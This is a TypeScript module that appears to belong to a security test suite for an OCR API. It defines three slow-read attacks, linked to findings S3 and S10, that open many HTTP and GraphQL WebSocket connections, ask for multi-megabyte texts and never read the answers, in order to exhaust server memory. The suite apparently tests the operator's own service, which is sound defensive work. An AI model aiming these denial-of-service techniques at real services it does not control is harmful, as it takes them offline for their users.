import { WebSocket } from 'ws';
import { withClient } from '../../house/with-client.ts';
import type { Attack, Target } from '../attack.ts';
import { holdSockets } from '../held-sockets.ts';
import { aborted, persist } from '../persist.ts';
import { storePages, storeText } from '../stored-requests.ts';
import { ask, byKey, whole } from './ask.ts';
import { onceFor } from './once-for.ts';
import { openSocket } from './open-socket.ts';

const TEXT_CHARACTERS = 4_800_000;
const longText = onceFor(({ databaseUrl, funded }) =>
  withClient(databaseUrl, (client) => storeText(client, funded.accountId, TEXT_CHARACTERS)),
);

export const unreadAnswers: Attack = {
  name: 'sixty connections that ask for a text of five megabytes and read nothing',
  finding: 'S3',
  prepare: longText,
  run: async (target, signal) => {
    const { url, funded } = target;
    const id = await longText(target);
    const head = `GET /v1/ocr/${id} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${funded.apiKey}\r\n\r\n`;
    await holdSockets(url, 60, head, signal, { reading: false });
  },
};

/** Answered once: what is not read cannot be looked at. */
async function tried(target: Target, query: string): Promise<string> {
  await ask({ ...byKey(target, target.funded), body: { query } }, whole());
  return query;
}

const longTextQuery = onceFor(async (target) =>
  tried(target, `{ ocrRequest(id: "${await longText(target)}") { extractedText } }`),
);

/** More calls on each than would fit into memory were they all answered. */
export const unreadSockets: Attack = {
  name: 'twenty GraphQL sockets that ask for such texts and read nothing',
  finding: 'S10',
  prepare: longTextQuery,
  run: async (target, signal) => {
    const { url, funded } = target;
    const query = await longTextQuery(target);
    await persist(signal, { width: 20, pauseMs: 500 }, async () => {
      const socket = await openSocket(url, funded.apiKey, signal);
      socket.pause();
      for (let n = 0; n < 20 && socket.readyState === WebSocket.OPEN; n++)
        socket.send(JSON.stringify({ type: 'subscribe', id: String(n), payload: { query } }));
      await aborted(AbortSignal.any([signal, AbortSignal.timeout(5000)])); // one that does not read does not see its end
      socket.terminate();
    });
  },
};

const PAGES = 100;
const PAGE_CHARACTERS = 200_000;

const manyPagesQuery = onceFor(async (target) => {
  const id = await withClient(target.databaseUrl, (client) =>
    storePages(client, target.funded.accountId, { pages: PAGES, characters: PAGE_CHARACTERS }),
  );
  return tried(target, `{ ocrRequest(id: "${id}") { pageResults(first: ${PAGES}) { text } } }`);
});

/** Texts that are short enough to be written at once, and many of them in each answer. */
export const unreadPages: Attack = {
  name: 'twenty GraphQL sockets that ask for a hundred pages of 200 kB and read nothing',
  finding: 'S10',
  prepare: manyPagesQuery,
  run: async (target, signal) => {
    const { url, funded } = target;
    const query = await manyPagesQuery(target);
    await persist(signal, { width: 20, pauseMs: 500 }, async () => {
      const socket = await openSocket(url, funded.apiKey, signal);
      socket.pause();
      for (let n = 0; n < 20 && socket.readyState === WebSocket.OPEN; n++)
        socket.send(JSON.stringify({ type: 'subscribe', id: String(n), payload: { query } }));
      await aborted(AbortSignal.any([signal, AbortSignal.timeout(5000)]));
      socket.terminate();
    });
  },
};
